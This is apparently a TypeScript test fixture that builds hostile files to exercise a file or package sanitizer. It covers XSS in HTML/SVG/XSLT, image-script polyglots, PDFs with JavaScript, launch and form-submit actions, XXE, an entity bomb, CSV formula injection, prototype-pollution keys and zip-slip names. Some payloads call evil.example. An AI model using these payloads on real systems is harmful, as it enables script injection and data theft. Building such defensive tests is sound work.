import { crc32, deflateSync } from 'node:zlib';
import { rawZip } from '../package/raw-zip.ts';

/** A file by which somebody might try to have a page run a script. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  /** What a forged record says that it is; otherwise the record says what is found in the content. */
  readonly claims?: string;
}

const SCRIPT = '<script>top.xss();parent.xss();xss();fetch("https://evil.example/f")</script>';
const HTML = `<!doctype html><html><body onload="top.xss()">${SCRIPT}<img src=x onerror=top.xss()></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.xss()">${SCRIPT}<image href="https://evil.example/i.png"/><a xlink:href="javascript:top.xss()"><text y="20">x</text></a></svg>`;
const XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`;
const XSLT = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="s"><x:template match="/"><html>${SCRIPT}</html></x:template></x:stylesheet>`;
const MHTML = `From: a@evil.example\r\nSubject: page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--\r\n`;

/** A picture of two by two pixels, with `text` in a chunk of its own. */
function png(text: string): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    return Buffer.concat([number(data.length), body, number(crc32(body))]);
  };
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', Buffer.concat([number(2), number(2), Buffer.from([8, 0, 0, 0, 0])])),
    chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')),
    chunk('IDAT', deflateSync(Buffer.from([0, 0, 255, 0, 255, 0]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const number = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};

/** A GIF of one pixel whose first bytes are the beginning of a comment to a reader of scripts. */
const GIF_AND_SCRIPT = Buffer.concat([
  Buffer.from('GIF89a', 'latin1'),
  Buffer.from([0x2f, 0x2a, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]),
  Buffer.from([0x21, 0xfe, 0x14]),
  Buffer.from('*/=1;top.xss();xss()', 'latin1'),
  Buffer.from([0x00, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]),
]);

/** A PDF with one empty page, and whatever acts. `open` is what happens when it is opened, `objects` lie beside. */
function pdf(open: string, page = '', ...objects: string[]): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R ${open}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>> ${page}>>`,
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const places = all.map((object, index) => {
    const at = text.length;
    text += `${String(index + 1)} 0 obj ${object} endobj\n`;
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(all.length + 1);
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${String(text.length)}\n%%EOF\n`,
    'latin1',
  );
}

const JS = '<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example"\\))>>';
const URI = '<</S/URI/URI(javascript:top.xss\\(\\))>>';
const zip = (files: Parameters<typeof rawZip>[0]) => Buffer.from(rawZip(files));
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

export const hostileFiles: readonly HostileFile[] = [
  { name: 'page.html', bytes: Buffer.from(HTML) },
  { name: 'page.htm', bytes: Buffer.from(`<html>${SCRIPT}</html>`) },
  { name: 'page.xhtml', bytes: Buffer.from(XHTML) },
  { name: 'page.mht', bytes: Buffer.from(MHTML) },
  {
    name: 'e-mail.eml',
    bytes: Buffer.from(`From: a@evil.example\r\nTo: b@evil.example\r\nSubject: ${SCRIPT}\r\nContent-Type: text/html\r\n\r\n${HTML}`),
  },
  { name: 'photo-that-is-a-page.jpg', bytes: Buffer.from(`${HTML}<!-- a page -->`) },
  { name: 'photo-that-is-a-page.png', bytes: Buffer.from(`\n\n${HTML}`) },
  { name: 'notes-that-are-a-page.txt', bytes: Buffer.from(`<p>Notes</p>${SCRIPT}`) },
  { name: 'page-in-utf-16.txt', bytes: utf16(HTML) },
  { name: 'page-in-utf-7.txt', bytes: Buffer.from('+ADw-script+AD4-top.xss()+ADw-/script+AD4-') },
  { name: 'drawing.svg', bytes: Buffer.from(SVG) },
  { name: 'drawing.png', bytes: Buffer.from(`<?xml version="1.0"?>${SVG}`) },
  { name: 'drawing.jpg', bytes: Buffer.from(`<!-- a photo -->${SVG}`) },
  {
    name: 'drawing-with-entities.svg',
    bytes: Buffer.from(`<!DOCTYPE svg [<!ENTITY x "${SCRIPT.replaceAll('"', "'")}">]>${SVG.replace('</svg>', '&x;</svg>')}`),
  },
  {
    name: 'drawing-with-a-frame.svg',
    bytes: Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.top.xss()"/></foreignObject></svg>',
    ),
  },
  { name: 'sheet.xml', bytes: Buffer.from(XSLT) },
  { name: 'outside.xml', bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]><x>&e;</x>') },
  {
    name: 'bomb.xml',
    bytes: Buffer.from(
      `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${String(i)} "${(i === 0 ? '&a;' : `&a${String(i - 1)};`).repeat(10)}">`).join('')}]><l>&a8;</l>`,
    ),
  },
  { name: 'script.js', bytes: Buffer.from('top.xss();xss();importScripts("https://evil.example/w.js")') },
  { name: 'module.mjs', bytes: Buffer.from('import "https://evil.example/m.js"; export default top.xss();') },
  { name: 'worker.js.txt', bytes: Buffer.from('self.addEventListener("fetch", () => xss());') },
  { name: 'shortcut.url', bytes: Buffer.from('[InternetShortcut]\r\nURL=javascript:xss()\r\n') },
  { name: 'theme.css', bytes: Buffer.from('@import url(https://evil.example/x.css);body{background:url(https://evil.example/b)}') },
  { name: 'program.hta', bytes: Buffer.from(`<hta:application id=x>${SCRIPT}`) },
  { name: 'cells.csv', bytes: Buffer.from('a,b,c\r\n=cmd|\'/C calc\'!A0,"=HYPERLINK(""https://evil.example"")",@SUM(1)\r\n') },
  { name: 'keys.json', bytes: Buffer.from('{"__proto__":{"xss":true},"constructor":{"prototype":{"xss":true}},"$$typeof":"react.element"}') },
  { name: 'gif-and-script.gif', bytes: GIF_AND_SCRIPT },
  { name: 'gif-and-script.js', bytes: GIF_AND_SCRIPT, claims: 'text/plain' },
  { name: 'picture-with-a-page-in-it.png', bytes: png(HTML) },
  { name: 'picture-with-a-drawing-in-it.png', bytes: png(SVG) },
  { name: 'picture-with-a-page-behind.png', bytes: Buffer.concat([png('x'), Buffer.from(HTML)]) },
  { name: 'picture-with-a-zip-behind.png', bytes: Buffer.concat([png('x'), zip([{ name: 'index.html', bytes: Buffer.from(HTML) }])]) },
  { name: 'opens-with-script.pdf', bytes: pdf(`/OpenAction ${JS}`) },
  { name: 'page-with-script.pdf', bytes: pdf('', `/AA<</O ${JS}/C ${JS}>>`) },
  { name: 'named-script.pdf', bytes: pdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', '', JS) },
  { name: 'link-that-runs.pdf', bytes: pdf('', '/Annots[4 0 R]', `<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A ${URI}>>`) },
  { name: 'starts-a-program.pdf', bytes: pdf('/OpenAction <</S/Launch/F(cmd.exe)/Win<</F(calc.exe)>>>>') },
  { name: 'sends-a-form.pdf', bytes: pdf('/OpenAction <</S/SubmitForm/F(https://evil.example/s)>>') },
  { name: 'outer-file.pdf', bytes: pdf('/OpenAction <</S/GoToR/F(https://evil.example/x.pdf)>>') },
  { name: 'film-in-it.pdf', bytes: pdf('', '/Annots[4 0 R]', `<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/A ${JS}>>`) },
  {
    name: 'form-with-script.pdf',
    bytes: pdf(`/AcroForm<</XFA(<script>xss()</script>)/Fields[4 0 R]>>`, '', `<</FT/Tx/T(a)/AA<</K ${JS}/F ${JS}>>>>`),
  },
  { name: 'font-with-code.pdf', bytes: pdf('', '/Annots[]', '<</Type/Font/Subtype/Type1/FontMatrix[1 0 0 1 0 (0\\);alert\\(1\\)//)]>>') },
  { name: 'page-that-begins-as-a-pdf.pdf', bytes: Buffer.from(`%PDF-1.4\n${HTML}`) },
  { name: 'page-then-pdf.html', bytes: Buffer.concat([Buffer.from(HTML), pdf('')]) },
  {
    name: 'document.docx',
    bytes: zip([
      { name: '[Content_Types].xml', bytes: Buffer.from('<Types/>') },
      { name: 'word/document.xml', bytes: Buffer.from(XSLT) },
    ]),
  },
  { name: 'up-and-out.zip', bytes: zip([{ name: '../../index.html', bytes: Buffer.from(HTML) }]) },
  { name: 'html.jpg.exe', bytes: Buffer.from(`MZ\0\0${HTML}`) },
  { name: 'invoice\u202egpj.html', bytes: Buffer.from(`${HTML}<!-- turned -->`) },
  { name: '<img src=x onerror=xss()>.png', bytes: png('named') },
  { name: '"><script>xss()</script>.txt', bytes: Buffer.from('a name that runs') },
  { name: '../../assets/index.js', bytes: Buffer.from('a name that leads away') },
  { name: '__proto__', bytes: Buffer.from('a name of the program') },
  // Records that lie about their file, as a package made by hand may hold them.
  { name: 'said-to-be-a-picture.png', bytes: Buffer.from(`${HTML}<!-- lie 1 -->`), claims: 'image/png' },
  { name: 'said-to-be-a-photo.jpg', bytes: Buffer.from(`${SVG}<!-- lie 2 -->`), claims: 'image/jpeg' },
  { name: 'said-to-be-a-film.mp4', bytes: Buffer.from(`${HTML}<!-- lie 3 -->`), claims: 'video/mp4' },
  { name: 'said-to-be-a-sound.mp3', bytes: Buffer.from(`${SVG}<!-- lie 4 -->`), claims: 'audio/mpeg' },
  { name: 'said-to-be-a-pdf.pdf', bytes: Buffer.from(`${HTML}<!-- lie 5 -->`), claims: 'application/pdf' },
  { name: 'said-to-be-text.txt', bytes: Buffer.from(`${HTML}<!-- lie 6 -->`), claims: 'text/plain' },
  { name: 'of-a-made-up-type.png', bytes: Buffer.from(`${SVG}<!-- lie 7 -->`), claims: 'image/svg+xml;image/png' },
  { name: 'of-a-type-that-runs.html', bytes: Buffer.from(`${HTML}<!-- lie 8 -->`), claims: 'application/xhtml+xml' },
  { name: 'of-the-type-of-a-key', bytes: Buffer.from(`${HTML}<!-- lie 9 -->`), claims: '__proto__' },
  { name: 'of-a-type-with-a-script', bytes: Buffer.from(`${HTML}<!-- lie 10 -->`), claims: '"><script>xss()</script>' },
];
